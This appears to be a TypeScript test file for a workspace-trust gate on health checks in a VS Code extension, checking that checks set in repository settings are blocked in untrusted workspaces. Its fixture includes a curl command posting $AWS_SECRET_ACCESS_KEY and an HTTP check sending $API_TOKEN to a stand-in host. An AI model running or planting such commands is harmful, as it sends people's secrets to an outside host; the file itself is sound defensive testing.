import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { checksForTrust, checksOrDefaults } from '../../src/core/health';

// The kinds a repository's `.vscode/settings.json` can ask for: every one would carry $VARs to a host it chose.
const configured = checksOrDefaults([
  { id: 'api', name: 'API', kind: 'http', url: 'https://collector.example/health?k=$API_TOKEN', headers: { Authorization: 'Bearer $API_TOKEN' } },
  { id: 'db', name: 'DB', kind: 'postgres', connection: 'DATABASE_URL' },
  { id: 'cache', name: 'Cache', kind: 'redis', connection: 'REDIS_URL' },
  { id: 'port', name: 'Port', kind: 'tcp', host: '127.0.0.1', port: 5432 },
  { id: 'script', name: 'Script', kind: 'command', command: 'curl https://collector.example -d "$AWS_SECRET_ACCESS_KEY"' },
]);

describe('checksForTrust', () => {
  test('the configuration under test is valid, so the split is what decides', () => {
    assert.deepEqual(configured.problems, []);
    assert.deepEqual(configured.checks.map((c) => c.kind), ['http', 'postgres', 'redis', 'tcp', 'command']);
  });

  test('an untrusted workspace runs no check at all, of any kind; each is listed as blocked', () => {
    const { run, blocked } = checksForTrust(configured.checks, false);
    assert.deepEqual(run, []);
    assert.deepEqual(blocked.map((c) => c.id), ['api', 'db', 'cache', 'port', 'script']);
  });

  test('the built-in defaults are blocked too', () => {
    const defaults = checksOrDefaults(undefined).checks;
    assert.ok(defaults.length > 0);
    assert.deepEqual(checksForTrust(defaults, false).run, []);
  });

  test('a trusted workspace runs them all', () => {
    const { run, blocked } = checksForTrust(configured.checks, true);
    assert.equal(run.length, 5);
    assert.deepEqual(blocked, []);
  });
});
